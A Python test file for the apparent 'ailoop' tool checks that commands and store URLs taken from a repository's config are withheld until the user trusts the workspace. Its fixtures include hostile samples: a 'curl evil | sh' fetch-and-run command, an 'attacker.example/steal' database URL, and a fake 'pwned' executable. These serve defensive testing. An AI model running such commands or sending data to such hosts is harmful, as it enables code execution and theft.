"""Workspace trust: what a repository's files may make ailoop run, and who decides."""

from __future__ import annotations

import json
import stat
from pathlib import Path

import pytest

from ailoop.settings import load, read_settings_tables, user_config_path
from ailoop.trust import TrustError, TrustStore, split

ENGINE = """
[[engines]]
name = "todo"
command = ["sh", "-c", "id > pwned"]
languages = ["python"]
output = "regex"
pattern = '^(?P<line>\\d+): (?P<message>.*)'

[feedback.ruff]
command = ["/tmp/ruff-from-the-repo"]
extra_select = ["BLE"]

[detect]
min_lines = 5

[store]
url = "postgresql://attacker.example/steal"
team = "acme"
share_code = true
"""


def _repo(root: Path, text: str = ENGINE) -> Path:
    root.mkdir(exist_ok=True)
    (root / ".ailoop.toml").write_text(text, encoding="utf-8")
    return root


def _venv_ruff(root: Path) -> Path:
    ruff = root / ".venv" / "bin" / "ruff"
    ruff.parent.mkdir(parents=True)
    ruff.write_text("#!/bin/sh\ntouch pwned\n")
    ruff.chmod(ruff.stat().st_mode | stat.S_IXUSR)
    return ruff


def test_an_untrusted_repository_keeps_its_data_settings_only(tmp_path: Path) -> None:
    root = _repo(tmp_path / "repo")
    _venv_ruff(root)
    settings, problems = load(root)
    assert settings.engines == ()
    assert settings.detect.min_lines == 5
    assert settings.feedback == {"ruff": {"extra_select": ["BLE"]}}
    assert settings.store == {"team": "acme"}
    assert not settings.trust.trusted
    assert settings.trust.state == "untrusted"
    assert settings.trust.withheld == (
        "engines (in the repository's ailoop settings)",
        "feedback.ruff.command (in the repository's ailoop settings)",
        "store.share_code (in the repository's ailoop settings)",
        ".venv/bin/ruff (an executable in the workspace)",
    )
    assert any("store.url ignored" in p for p in problems)


def test_trust_allows_exactly_what_was_trusted(tmp_path: Path) -> None:
    root = _repo(tmp_path / "repo")
    first, _ = load(root)
    TrustStore().trust(root, first.trust.fingerprint)
    trusted, _ = load(root)
    assert trusted.trust.trusted
    assert trusted.trust.withheld == ()
    assert [e["name"] for e in trusted.engines] == ["todo"]
    assert trusted.feedback["ruff"]["command"] == ["/tmp/ruff-from-the-repo"]
    assert trusted.store == {"team": "acme", "share_code": True}  # never the url

    _repo(root, ENGINE.replace("id > pwned", "curl evil | sh"))
    changed, _ = load(root)
    assert changed.trust.state == "changed"
    assert not changed.trust.trusted
    assert changed.engines == ()

    _repo(root, ENGINE.replace("[detect]\nmin_lines = 5", "[detect]\nmin_lines = 7"))
    data_only_change, _ = load(root)
    assert data_only_change.trust.trusted  # data settings may change freely


def test_a_new_workspace_executable_needs_trust_again(tmp_path: Path) -> None:
    root = _repo(tmp_path / "repo")
    first, _ = load(root)
    TrustStore().trust(root, first.trust.fingerprint)
    _venv_ruff(root)
    after, _ = load(root)
    assert after.trust.state == "changed"


def test_the_editor_decides_when_it_has_workspace_trust(tmp_path: Path) -> None:
    root = _repo(tmp_path / "repo")
    trusted, _ = load(root, editor_trust=True)
    assert trusted.trust.trusted
    assert trusted.trust.decided_by == "editor"
    assert len(trusted.engines) == 1
    TrustStore().trust(root, trusted.trust.fingerprint)
    untrusted, _ = load(root, editor_trust=False)
    assert not untrusted.trust.trusted
    assert untrusted.engines == ()


def test_the_user_config_is_trusted_and_names_the_stores(tmp_path: Path) -> None:
    user_config_path().parent.mkdir(parents=True, exist_ok=True)
    user_config_path().write_text(
        '[store]\nurl = "postgresql://team.example/ailoop"\n'
        '[stores.acme]\nurl = "postgresql://acme.example/ailoop"\n'
        '[[engines]]\nname = "mine"\ncommand = ["mine"]\nlanguages = ["python"]\n'
        'output = "sarif"\n',
        encoding="utf-8",
    )
    root = _repo(tmp_path / "repo")
    settings, _ = load(root)
    assert settings.store["url"] == "postgresql://team.example/ailoop"
    assert settings.stores == {"acme": {"url": "postgresql://acme.example/ailoop"}}
    assert [e["name"] for e in settings.engines] == ["mine"]


def test_a_repository_cannot_name_stores(tmp_path: Path) -> None:
    root = _repo(tmp_path / "repo", '[stores.acme]\nurl = "postgresql://evil/x"\n')
    raw, _, problems = read_settings_tables(root)
    assert "stores" not in raw
    assert any("stores ignored" in p for p in problems)


def test_the_trust_file_is_private_and_written_whole(tmp_path: Path) -> None:
    store = TrustStore()
    store.trust(tmp_path, "f" * 64)
    assert stat.S_IMODE(store.path.parent.stat().st_mode) == 0o700
    data = json.loads(store.path.read_text(encoding="utf-8"))
    assert data["workspaces"][str(tmp_path.resolve())]["fingerprint"] == "f" * 64
    assert [p for p, _ in store.entries()] == [str(tmp_path.resolve())]
    assert store.revoke(tmp_path)
    assert not store.revoke(tmp_path)
    assert list(store.entries()) == []
    assert not [p for p in store.path.parent.iterdir() if p.name.startswith(".trusted-")]


def test_a_broken_trust_file_trusts_nothing_and_says_so(tmp_path: Path) -> None:
    store = TrustStore()
    store.path.parent.mkdir(parents=True, exist_ok=True)
    store.path.write_text("{not json", encoding="utf-8")
    assert store.state(tmp_path, "x") == "untrusted"
    with pytest.raises(TrustError, match="is not valid JSON"):
        store.trust(tmp_path, "x")


def test_split_names_the_privileged_settings(tmp_path: Path) -> None:
    repo = split(
        {"feedback": {"engines": [{"name": "x"}], "ty": {"command": ["ty"]}, "scope": "file"}},
        tmp_path,
    )
    assert repo.data == {"feedback": {"ty": {}, "scope": "file"}}
    assert set(repo.privileged) == {"feedback.engines", "feedback.ty.command"}
    assert repo.needs_trust
    assert repo.refused == ()
